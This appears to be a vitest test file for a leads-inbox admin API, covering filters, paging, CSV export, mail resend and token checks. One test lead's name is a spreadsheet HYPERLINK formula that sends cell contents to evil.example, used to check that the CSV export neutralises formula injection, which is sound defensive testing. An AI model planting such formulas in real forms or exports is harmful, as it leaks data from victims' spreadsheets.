import { readdir, writeFile } from 'node:fs/promises';
import { createServer, type Server, type Socket } from 'node:net';
import type { Response } from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { ActivityListResponseSchema } from '@gear/contract/activity';
import {
  LEAD_CSV_COLUMNS,
  LeadListResponseSchema,
  LeadMutationResponseSchema,
  LeadSchema,
  LeadSummarySchema,
  type Lead,
} from '@gear/contract/leads-admin';
import { LEADS_LIMITS } from '@gear/contract/limits';
import { ADMIN_MESSAGES, API_ERRORS } from '@gear/contract/messages';
import { dataPaths } from '../../data-paths.ts';
import { errorOf } from '../../test-utils/bodies.ts';
import { closedPort } from '../../test-utils/net.ts';
import { makeDataDir, startTestApp, type TestApp } from '../../test-utils/test-app.ts';
import { MAIL_IN_FLIGHT } from '../forms/forms.service.ts';

const listOf = (response: Response) => LeadListResponseSchema.parse(response.body);
const leadOf = (response: Response) => LeadMutationResponseSchema.parse(response.body).data;
const idsOf = (response: Response) => listOf(response).data.map((lead) => lead.id);

/** The raw bytes of a CSV answer (`responseType('blob')`): the BOM is checked byte by byte. */
const bytesOf = (response: Response) => z.instanceof(Buffer).parse(response.body);
const BOM = Buffer.from([0xef, 0xbb, 0xbf]);

/** A CSV answer split into its lines (after the BOM). */
function csvLines(response: Response): string[] {
  const bytes = bytesOf(response);
  expect(bytes.subarray(0, 3).equals(BOM)).toBe(true);
  const text = bytes.subarray(3).toString('utf8');
  expect(text.endsWith('\r\n')).toBe(true);
  return text.slice(0, -2).split('\r\n');
}

const HUMAN = { website: '', elapsedMs: 15_000 };
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';

/** Five leads through the public forms, in this order (ids 1..5). */
async function submitFiveLeads(t: TestApp) {
  const post = (url: string, body: object) =>
    t
      .api()
      .post(url)
      .send({ ...body, ...HUMAN })
      .expect(200);
  await post('/api/send-email', {
    name: 'Asha Patel',
    email: 'asha@example.com',
    contact: '+91 98765-43210',
  });
  await post('/api/contact', {
    name: 'Ravi Mehta',
    email: 'RAVI@Works.example',
    phone: '0281-2345678',
    message: 'Need 40 spur gears.',
  });
  await post('/api/inquiry/c', {
    name: 'Meera',
    email: 'meera@example.com',
    contact: '9876500000',
    message: 'Price for helical gears?',
  });
  await post('/api/inquiry/c', {
    name: FORMULA_NAME,
    email: 'mallory@example.net',
    contact: '+1 555 0100 22',
    message: '@SUM(1+1)',
  });
  await post('/api/contact', {
    name: 'Dev Rao',
    email: 'dev@example.com',
    phone: '022 1234 5678',
    message: 'Line one\nLine "two", three',
  });
  await t.handle.tasks.idle();
}

/** Received times for the date filters (the forms stamp "now"; the tests need known days). */
const RECEIVED: Record<number, string> = {
  1: '2026-11-01T08:00:00.000Z',
  2: '2026-11-10T12:00:00.000Z',
  3: '2026-11-10T12:00:00.000Z',
  4: '2026-11-20T00:00:00.000Z',
  5: '2026-11-22T23:30:00.000Z',
};
async function backdate(t: TestApp) {
  await t.handle.store.update((draft) => {
    for (const lead of draft.leads) {
      const at = RECEIVED[lead.id];
      if (at) {
        lead.created_at = at;
        lead.updated_at = at;
      }
    }
  });
}

describe('leads inbox API', () => {
  let t: TestApp;
  let auth: { Authorization: string };
  const outbox = async () => {
    try {
      return (await readdir(t.handle.paths.outboxDir)).filter((name) => name.endsWith('.eml'));
    } catch {
      return [];
    }
  };

  beforeAll(async () => {
    t = await startTestApp();
    auth = { Authorization: `Bearer ${await t.token()}` };
    await submitFiveLeads(t);
  });
  afterAll(() => t.destroy());

  it('lists what the public forms received: new, unread, mail sent, newest first', async () => {
    const response = await t.api().get('/api/leads').set(auth).expect(200);
    expect(response.headers['cache-control']).toBe('no-store');
    const list = listOf(response);
    expect(list).toMatchObject({
      total: 5,
      page: 1,
      pageSize: LEADS_LIMITS.pageSizeDefault,
      unread: 5,
    });
    expect(list.data.map((lead) => lead.id)).toEqual([5, 4, 3, 2, 1]);
    expect(list.data.at(-1)).toEqual({
      id: 1,
      kind: 'brochure',
      name: 'Asha Patel',
      email: 'asha@example.com',
      phone: '+91 98765-43210',
      message: null,
      ip: list.data.at(-1)?.ip,
      created_at: list.data.at(-1)?.created_at,
      updated_at: list.data.at(-1)?.created_at,
      status: 'new',
      notes: '',
      read_at: null,
      mail_status: 'sent',
      mail_error: null,
    });
    expect(list.data.at(-1)?.ip).toMatch(/\S/);
    expect(list.data.map((lead) => lead.kind)).toEqual([
      'contact',
      'inquiry',
      'inquiry',
      'contact',
      'brochure',
    ]);
    expect(
      LeadSummarySchema.parse((await t.api().get('/api/leads/summary').set(auth).expect(200)).body),
    ).toEqual({ unread: 5, mail_failed: 0 });
  });

  describe('every endpoint needs the admin token', () => {
    const endpoints = [
      ['GET', '/api/leads'],
      ['GET', '/api/leads/summary'],
      ['GET', '/api/leads/export.csv'],
      ['PATCH', '/api/leads/1'],
      ['POST', '/api/leads/1/resend'],
    ] as const;
    const send = (method: (typeof endpoints)[number][0], url: string, header: string | null) => {
      const api = t.api();
      const req =
        method === 'GET' ? api.get(url) : method === 'PATCH' ? api.patch(url) : api.post(url);
      if (header !== null) req.set('Authorization', header);
      return method === 'PATCH' ? req.send({ status: 'spam', read: true }) : req;
    };

    for (const [method, url] of endpoints) {
      it(`${method} ${url}: 401 without a token or with a bad one; nothing changes`, async () => {
        const mailsBefore = (await outbox()).length;
        const leadsBefore = JSON.stringify(t.handle.store.read().leads);
        for (const header of [
          null,
          'Bearer not.a.token',
          'Basic YWRtaW46Z2VhcnNAMjAwNQ==',
          'Bearer ',
        ]) {
          const response = await send(method, url, header).expect(401);
          expect.soft(errorOf(response)).toBe(ADMIN_MESSAGES.unauthorized);
          expect.soft(response.headers['www-authenticate']).toBe('Bearer');
          expect.soft(response.headers['content-type']).toMatch(/^application\/json/);
        }
        await t.handle.tasks.idle();
        expect((await outbox()).length).toBe(mailsBefore);
        expect(JSON.stringify(t.handle.store.read().leads)).toBe(leadsBefore);
      });
    }
  });

  describe('filters, search and pages', () => {
    beforeAll(async () => {
      await backdate(t);
      await t.api().patch('/api/leads/2').set(auth).send({ status: 'contacted' }).expect(200);
      await t
        .api()
        .patch('/api/leads/3')
        .set(auth)
        .send({ status: 'spam', read: true })
        .expect(200);
    });
    const ids = async (query: Record<string, string | number>) =>
      idsOf(await t.api().get('/api/leads').query(query).set(auth).expect(200));

    it('filters by type and status; unread still counts the whole inbox', async () => {
      expect(await ids({ type: 'inquiry' })).toEqual([4, 3]);
      expect(await ids({ type: 'brochure' })).toEqual([1]);
      expect(await ids({ type: 'contact' })).toEqual([5, 2]);
      expect(await ids({ status: 'contacted' })).toEqual([2]);
      expect(await ids({ status: 'new' })).toEqual([5, 4, 1]);
      expect(await ids({ status: 'closed' })).toEqual([]);
      const spam = listOf(await t.api().get('/api/leads?status=spam').set(auth).expect(200));
      expect(spam).toMatchObject({ total: 1, unread: 4 });
    });

    it('filters by an inclusive date range (instants with an offset)', async () => {
      expect(await ids({ from: '2026-11-10T12:00:00.000Z' })).toEqual([5, 4, 3, 2]);
      expect(await ids({ to: '2026-11-10T12:00:00.000Z' })).toEqual([3, 2, 1]);
      expect(await ids({ from: '2026-11-10T00:00:00Z', to: '2026-11-20T00:00:00Z' })).toEqual([
        4, 3, 2,
      ]);
      // A day in India (UTC+05:30): 23 Nov there starts 22 Nov 18:30 UTC.
      expect(
        await ids({ from: '2026-11-23T00:00:00.000+05:30', to: '2026-11-23T23:59:59.999+05:30' }),
      ).toEqual([5]);
    });

    it('searches name, e-mail and phone case-insensitively; the phone also by its digits', async () => {
      expect(await ids({ q: 'asha' })).toEqual([1]);
      expect(await ids({ q: 'MEERA' })).toEqual([3]);
      expect(await ids({ q: 'works.example' })).toEqual([2]);
      expect(await ids({ q: '98765' })).toEqual([3, 1]);
      expect(await ids({ q: '9876543210' })).toEqual([1]);
      expect(await ids({ q: '98765 43210' })).toEqual([1]);
      expect(await ids({ q: '0281 2345678' })).toEqual([2]);
      expect(await ids({ q: '  example.com ' })).toEqual([5, 3, 1]);
      expect(await ids({ q: 'nobody' })).toEqual([]);
      expect(await ids({ q: '98765', type: 'brochure' })).toEqual([1]);
    });

    it('pages newest first, with the total of all pages', async () => {
      const page = async (n: number) =>
        listOf(await t.api().get(`/api/leads?pageSize=2&page=${n}`).set(auth).expect(200));
      expect(await page(1)).toMatchObject({ total: 5, page: 1, pageSize: 2 });
      expect((await page(1)).data.map((lead) => lead.id)).toEqual([5, 4]);
      expect((await page(2)).data.map((lead) => lead.id)).toEqual([3, 2]);
      expect((await page(3)).data.map((lead) => lead.id)).toEqual([1]);
      expect(await page(4)).toMatchObject({ data: [], total: 5, page: 4 });
      // A known parameter sent empty (a form's "All") is no filter.
      expect(await ids({ type: '', status: '', q: '', from: '' })).toEqual([5, 4, 3, 2, 1]);
    });

    it('answers 400 naming the parameter for a bad query, never 500', async () => {
      const kinds = 'use one of inquiry, contact, brochure, quote.';
      const statuses = 'use one of new, contacted, closed, spam.';
      const cases: [string, string][] = [
        ['status=archived', `Invalid query parameter "status": ${statuses}`],
        ['type=order', `Invalid query parameter "type": ${kinds}`],
        ['from=yesterday', 'Invalid query parameter "from": Use an ISO 8601 date-time.'],
        ['to=2026-11-23', 'Invalid query parameter "to": Use an ISO 8601 date-time.'],
        ['page=0', 'Invalid query parameter "page": use a whole number from 1.'],
        ['page=abc', 'Invalid query parameter "page": use a whole number from 1.'],
        ['page=1.5', 'Invalid query parameter "page": use a whole number from 1.'],
        [
          `pageSize=${LEADS_LIMITS.pageSizeMax + 1}`,
          `Invalid query parameter "pageSize": use a whole number from 1 to ${LEADS_LIMITS.pageSizeMax}.`,
        ],
        [
          `q=${'a'.repeat(LEADS_LIMITS.searchMax + 1)}`,
          `Invalid query parameter "q": Search must be at most ${LEADS_LIMITS.searchMax} characters.`,
        ],
        ['status=new&status=spam', 'Invalid query parameter "status": send it once.'],
        ['q=a&q=b', 'Invalid query parameter "q": send it once.'],
        ['sort=name', 'Unknown query parameter: sort.'],
        ['foo=&bar=1', 'Unknown query parameters: foo, bar.'],
      ];
      for (const [query, message] of cases) {
        const response = await t.api().get(`/api/leads?${query}`).set(auth).expect(400);
        expect.soft(errorOf(response), query).toBe(message);
      }
      expect(
        errorOf(await t.api().get('/api/leads/export.csv?status=archived').set(auth).expect(400)),
      ).toBe(`Invalid query parameter "status": ${statuses}`);
    });
  });

  describe('PATCH /api/leads/:id', () => {
    it('changes status and notes, answers the lead, and bumps updated_at', async () => {
      const before = t.handle.store.read().leads.find((lead) => lead.id === 4);
      const response = await t
        .api()
        .patch('/api/leads/4')
        .set(auth)
        .send({ status: 'contacted', notes: 'Called, wants a quote.\nFollow up Monday.' })
        .expect(200);
      expect(response.body).toMatchObject({ success: true, message: ADMIN_MESSAGES.leadUpdated });
      const lead = leadOf(response);
      expect(lead).toMatchObject({
        id: 4,
        status: 'contacted',
        notes: 'Called, wants a quote.\nFollow up Monday.',
        read_at: null,
      });
      expect(Date.parse(lead.updated_at)).toBeGreaterThan(Date.parse(before?.updated_at ?? ''));
      expect(lead.created_at).toBe(before?.created_at);
      const listed = listOf(await t.api().get('/api/leads?status=contacted').set(auth).expect(200));
      expect(listed.data.find((candidate) => candidate.id === 4)).toEqual(lead);
    });

    it('marks read once (the first time stays) and unread again', async () => {
      const first = leadOf(
        await t.api().patch('/api/leads/5').set(auth).send({ read: true }).expect(200),
      );
      expect(first.read_at).not.toBeNull();
      expect(Date.parse(first.read_at ?? '')).toBeGreaterThan(Date.now() - 60_000);
      await new Promise((resolve) => setTimeout(resolve, 5));
      const again = leadOf(
        await t.api().patch('/api/leads/5').set(auth).send({ read: true }).expect(200),
      );
      expect(again.read_at).toBe(first.read_at);
      expect(again.updated_at).toBe(first.updated_at);
      const summary = LeadSummarySchema.parse(
        (await t.api().get('/api/leads/summary').set(auth).expect(200)).body,
      );
      expect(summary.unread).toBe(3);
      const unread = leadOf(
        await t.api().patch('/api/leads/5').set(auth).send({ read: false }).expect(200),
      );
      expect(unread.read_at).toBeNull();
      expect(listOf(await t.api().get('/api/leads').set(auth).expect(200)).unread).toBe(4);
    });

    it('writes status and notes changes to the activity log, not the read state', async () => {
      const activity = ActivityListResponseSchema.parse(
        (await t.api().get('/api/activity?entity=lead').set(auth).expect(200)).body,
      );
      expect(activity.data.map((entry) => [entry.entity_id, entry.summary])).toEqual([
        [4, 'Updated lead #4 (status new → contacted, notes)'],
        [3, 'Updated lead #3 (status new → spam)'],
        [2, 'Updated lead #2 (status new → contacted)'],
      ]);
      expect(activity.data[0]).toMatchObject({ action: 'update', entity: 'lead', actor: 'admin' });
      expect(activity.data[0]?.ip).toMatch(/\S/);
    });

    it('404 for an unknown lead, 400 for a bad id or body, nothing written', async () => {
      const before = JSON.stringify(t.handle.store.read().leads);
      expect(
        errorOf(await t.api().patch('/api/leads/999').set(auth).send({ read: true }).expect(404)),
      ).toBe(ADMIN_MESSAGES.leadNotFound);
      for (const id of ['abc', '0', '-1', '1.5', 'summary', 'export.csv']) {
        expect
          .soft(
            errorOf(
              await t.api().patch(`/api/leads/${id}`).set(auth).send({ read: true }).expect(400),
            ),
            id,
          )
          .toBe(API_ERRORS.invalidId);
      }
      const bodies: [unknown, string | RegExp][] = [
        [{ status: 'archived' }, /status|option/i],
        [
          { notes: 'x'.repeat(LEADS_LIMITS.notesMax + 1) },
          `Notes must be at most ${LEADS_LIMITS.notesMax} characters.`,
        ],
        [{}, 'Send at least one of status, notes or read.'],
        [{ read: 'yes' }, /boolean/i],
        [{ status: 'closed', kind: 'contact' }, API_ERRORS.invalidInput],
        [{ email: 'x@example.com' }, API_ERRORS.invalidInput],
        [[], API_ERRORS.invalidInput],
      ];
      for (const [body, message] of bodies) {
        const response = await t
          .api()
          .patch('/api/leads/1')
          .set(auth)
          .send(body as object)
          .expect(400);
        if (typeof message === 'string') expect.soft(errorOf(response)).toBe(message);
        else expect.soft(errorOf(response)).toMatch(message);
      }
      expect(
        errorOf(
          await t
            .api()
            .patch('/api/leads/1')
            .set(auth)
            .type('form')
            .send('status=closed')
            .expect(415),
        ),
      ).toBe(API_ERRORS.unsupportedMediaType);
      expect(JSON.stringify(t.handle.store.read().leads)).toBe(before);
    });

    it('accepts notes at the limit', async () => {
      const notes = 'n'.repeat(LEADS_LIMITS.notesMax);
      const lead = leadOf(
        await t.api().patch('/api/leads/1').set(auth).send({ notes }).expect(200),
      );
      expect(lead.notes).toBe(notes);
      await t.api().patch('/api/leads/1').set(auth).send({ notes: '' }).expect(200);
    });
  });

  describe('GET /api/leads/export.csv', () => {
    const exportCsv = (query = '') =>
      t.api().get(`/api/leads/export.csv${query}`).set(auth).responseType('blob').expect(200);

    it('is a UTF-8 CSV download: BOM, header row, CRLF, newest first, no caching', async () => {
      const response = await exportCsv();
      expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
      expect(response.headers['cache-control']).toBe('no-store');
      expect(response.headers['content-disposition']).toBe(
        `attachment; filename="leads-${new Date().toISOString().slice(0, 10)}.csv"`,
      );
      const lines = csvLines(response);
      expect(lines[0]).toBe(LEAD_CSV_COLUMNS.join(','));
      // Lead 5's message holds a line break (LF, inside its quoted cell): 5 leads, 6 CRLF lines.
      expect(lines).toHaveLength(6);
      expect(lines.slice(1).map((line) => line.split(',')[0])).toEqual(['5', '4', '3', '2', '1']);
      const stored = t.handle.store.read().leads.find((lead) => lead.id === 2);
      expect(lines[4]).toBe(
        `2,contact,contacted,2026-11-10T12:00:00.000Z,Ravi Mehta,RAVI@Works.example,0281-2345678,Need 40 spur gears.,,,,,,,sent,,${stored?.ip ?? ''}`,
      );
    });

    it('quotes line breaks, quotes and commas, and neutralises formulas', async () => {
      const lines = csvLines(await exportCsv());
      // Lead 5: a message with a line break, quotes and a comma.
      expect(lines[1]).toContain(
        ',Dev Rao,dev@example.com,022 1234 5678,"Line one\nLine ""two"", three",',
      );
      // Lead 4: a formula as name, '@' message, '+' phone; notes with a line break.
      expect(lines[2]).toContain(
        `,"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")",mallory@example.net,'+1 555 0100 22,'@SUM(1+1),,,,,"Called, wants a quote.\nFollow up Monday.",`,
      );
      // Lead 1: '+' phone.
      expect(lines[5]).toContain(",Asha Patel,asha@example.com,'+91 98765-43210,,");
      await t
        .api()
        .patch('/api/leads/1')
        .set(auth)
        .send({ notes: '-10% discount agreed' })
        .expect(200);
      expect(csvLines(await exportCsv('?type=brochure'))[1]).toContain(",'-10% discount agreed,");
      await t.api().patch('/api/leads/1').set(auth).send({ notes: '' }).expect(200);
    });

    it('exports what the filter selects (the same filter as the list)', async () => {
      const rows = async (query: string) =>
        csvLines(await exportCsv(query))
          .slice(1)
          .map((line) => line.split(',')[0]);
      expect(await rows('?type=inquiry')).toEqual(['4', '3']);
      expect(await rows('?status=contacted')).toEqual(['4', '2']);
      expect(await rows('?q=98765')).toEqual(['3', '1']);
      expect(await rows('?from=2026-11-10T12:00:00.000Z&to=2026-11-20T00:00:00.000Z')).toEqual([
        '4',
        '3',
        '2',
      ]);
      expect(await rows('?status=closed')).toEqual([]);
      // The export has no pages: page/pageSize are not its parameters.
      expect(errorOf(await t.api().get('/api/leads/export.csv?page=2').set(auth).expect(400))).toBe(
        'Unknown query parameter: page.',
      );
    });
  });

  describe('POST /api/leads/:id/resend', () => {
    it('sends the notification again and answers the lead', async () => {
      const before = (await outbox()).length;
      const response = await t.api().post('/api/leads/3/resend').set(auth).expect(200);
      expect(response.body).toMatchObject({
        success: true,
        message: ADMIN_MESSAGES.leadMailResent,
      });
      expect(leadOf(response)).toMatchObject({ id: 3, mail_status: 'sent', mail_error: null });
      expect((await outbox()).length).toBe(before + 1);
    });

    it('404 for an unknown lead, 400 for a bad id or a body; no mail', async () => {
      const before = (await outbox()).length;
      expect(errorOf(await t.api().post('/api/leads/404/resend').set(auth).expect(404))).toBe(
        ADMIN_MESSAGES.leadNotFound,
      );
      expect(errorOf(await t.api().post('/api/leads/x/resend').set(auth).expect(400))).toBe(
        API_ERRORS.invalidId,
      );
      const extra = await t
        .api()
        .post('/api/leads/3/resend')
        .set(auth)
        .send({ to: 'x@example.com' });
      expect(extra.status).toBe(400);
      expect(errorOf(extra)).toBe(API_ERRORS.invalidInput);
      expect(
        errorOf(
          await t.api().post('/api/leads/3/resend').set(auth).type('text').send('go').expect(415),
        ),
      ).toBe(API_ERRORS.unsupportedMediaType);
      await t.api().post('/api/leads/3/resend').set(auth).send({}).expect(200);
      // Only the valid request (no body or `{}`) sent a mail.
      expect((await outbox()).length).toBe(before + 1);
    });
  });
});

describe('large inbox', () => {
  it('pages 120 leads and exports them all, newest first', async () => {
    const t = await startTestApp();
    try {
      const auth = { Authorization: `Bearer ${await t.token()}` };
      await t.handle.store.update((draft) => {
        for (let id = 1; id <= 120; id += 1) {
          const at = new Date(Date.UTC(2026, 10, 1) + id * 60_000).toISOString();
          draft.leads.push({
            id,
            kind: id % 3 === 0 ? 'brochure' : 'inquiry',
            name: `Lead ${id}`,
            email: `lead${id}@example.com`,
            phone: `98765${String(id).padStart(5, '0')}`,
            message: id % 3 === 0 ? null : `Message ${id}`,
            ip: null,
            created_at: at,
            updated_at: at,
            status: 'new',
            notes: '',
            read_at: id % 2 === 0 ? at : null,
            mail_status: id % 10 === 0 ? 'failed' : 'sent',
            mail_error: id % 10 === 0 ? 'refused' : null,
          });
        }
      });
      const first = LeadListResponseSchema.parse(
        (await t.api().get('/api/leads').set(auth).expect(200)).body,
      );
      expect(first).toMatchObject({
        total: 120,
        page: 1,
        pageSize: LEADS_LIMITS.pageSizeDefault,
        unread: 60,
      });
      expect(first.data).toHaveLength(LEADS_LIMITS.pageSizeDefault);
      expect(first.data[0]?.id).toBe(120);
      const last = LeadListResponseSchema.parse(
        (await t.api().get('/api/leads?page=3').set(auth).expect(200)).body,
      );
      expect(last.data.map((lead) => lead.id)).toEqual(
        Array.from({ length: 20 }, (_, index) => 20 - index),
      );
      expect(
        LeadSummarySchema.parse(
          (await t.api().get('/api/leads/summary').set(auth).expect(200)).body,
        ),
      ).toEqual({ unread: 60, mail_failed: 12 });
      const csv = await t
        .api()
        .get('/api/leads/export.csv')
        .set(auth)
        .responseType('blob')
        .expect(200);
      const lines = csvLines(csv);
      expect(lines).toHaveLength(121);
      expect(lines.slice(1).map((line) => Number(line.split(',')[0]))).toEqual(
        Array.from({ length: 120 }, (_, index) => 120 - index),
      );
    } finally {
      await t.destroy();
    }
  });
});

describe('resend when the mail server refuses', () => {
  it('502 with the reason and the lead (failed); succeeds once mail works again', async () => {
    const smtp = { SMTP_URL: `smtp://127.0.0.1:${await closedPort()}` };
    const t = await startTestApp(smtp);
    try {
      const auth = { Authorization: `Bearer ${await t.token()}` };
      await t
        .api()
        .post('/api/inquiry/c')
        .send({ name: 'Meera', email: 'meera@example.com', contact: '9876543210', message: 'Hi' })
        .expect(200);
      await t.handle.tasks.idle();
      const listed = LeadListResponseSchema.parse(
        (await t.api().get('/api/leads').set(auth).expect(200)).body,
      ).data[0];
      expect(listed).toMatchObject({ id: 1, mail_status: 'failed' });
      expect(listed?.mail_error).toMatch(/ECONNREFUSED/);
      expect(
        LeadSummarySchema.parse(
          (await t.api().get('/api/leads/summary').set(auth).expect(200)).body,
        ),
      ).toEqual({ unread: 1, mail_failed: 1 });

      const failed = await t.api().post('/api/leads/1/resend').set(auth).expect(502);
      const body = z
        .strictObject({ success: z.literal(false), error: z.string(), data: z.unknown() })
        .parse(failed.body);
      expect(body.error.startsWith(`${ADMIN_MESSAGES.leadMailResendFailed} `)).toBe(true);
      expect(body.error).toMatch(/ECONNREFUSED/);
      const lead: Lead = LeadSchema.parse(body.data);
      expect(lead).toMatchObject({ id: 1, mail_status: 'failed' });
      expect(lead.mail_error).toMatch(/ECONNREFUSED/);

      await t.restart({});
      const sent = await t.api().post('/api/leads/1/resend').set(auth).expect(200);
      expect(LeadMutationResponseSchema.parse(sent.body)).toMatchObject({
        success: true,
        message: ADMIN_MESSAGES.leadMailResent,
        data: { id: 1, mail_status: 'sent', mail_error: null },
      });
      expect(
        (await readdir(t.handle.paths.outboxDir)).filter((name) => name.endsWith('.eml')),
      ).toHaveLength(1);
      expect(
        LeadSummarySchema.parse(
          (await t.api().get('/api/leads/summary').set(auth).expect(200)).body,
        ),
      ).toEqual({ unread: 1, mail_failed: 0 });
    } finally {
      await t.destroy();
    }
  });
});

describe('resend while the mail is still being delivered', () => {
  it('409: one lead is never sent twice at once', async () => {
    // An SMTP server that accepts the connection and then says nothing: delivery hangs.
    const sockets = new Set<Socket>();
    const server: Server = createServer((socket) => {
      sockets.add(socket);
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    const address = server.address();
    const port = typeof address === 'object' && address ? address.port : 0;
    const t = await startTestApp({ SMTP_URL: `smtp://127.0.0.1:${port}` });
    try {
      const auth = { Authorization: `Bearer ${await t.token()}` };
      await t
        .api()
        .post('/api/contact')
        .send({ name: 'Ravi', email: 'ravi@example.com', phone: '0281-2345678', message: 'Hi' })
        .expect(200);
      await expect.poll(() => sockets.size).toBe(1);
      expect(t.handle.store.read().leads[0]?.mail_status).toBe('pending');
      const busy = await t.api().post('/api/leads/1/resend').set(auth).expect(409);
      expect(errorOf(busy)).toBe(MAIL_IN_FLIGHT);
      expect(sockets.size).toBe(1);
    } finally {
      for (const socket of sockets) socket.destroy();
      await t.handle.tasks.idle();
      await t.destroy();
      await new Promise<void>((resolve) =>
        server.close(() => {
          resolve();
        }),
      );
    }
  });
});

describe('db.json written before the inbox existed', () => {
  it('loads its leads as new, unread, without notes, updated when received', async () => {
    const dataDir = await makeDataDir();
    const old = {
      sliders: [],
      subcategories: [],
      gallery: [],
      ebrochure: [],
      leads: [
        {
          id: 1,
          kind: 'contact',
          name: 'Ravi',
          email: 'ravi@example.com',
          phone: '0281-2345678',
          message: 'Old message',
          ip: '203.0.113.7',
          created_at: '2025-06-01T10:00:00.000Z',
          mail_status: 'failed',
          mail_error: 'connect ECONNREFUSED',
        },
      ],
      revoked_tokens: [],
    };
    await writeFile(dataPaths(dataDir).dbFile, `${JSON.stringify(old, null, 2)}\n`);
    const t = await startTestApp({}, { dataDir });
    try {
      const auth = { Authorization: `Bearer ${await t.token()}` };
      const list = LeadListResponseSchema.parse(
        (await t.api().get('/api/leads').set(auth).expect(200)).body,
      );
      expect(list.data).toEqual([
        {
          ...old.leads[0],
          updated_at: '2025-06-01T10:00:00.000Z',
          status: 'new',
          notes: '',
          read_at: null,
        },
      ]);
      expect(list.unread).toBe(1);
      await t.api().patch('/api/leads/1').set(auth).send({ status: 'closed' }).expect(200);
      await t.restart();
      expect(t.handle.store.read().leads[0]).toMatchObject({
        status: 'closed',
        notes: '',
        read_at: null,
      });
    } finally {
      await t.destroy();
    }
  });
});
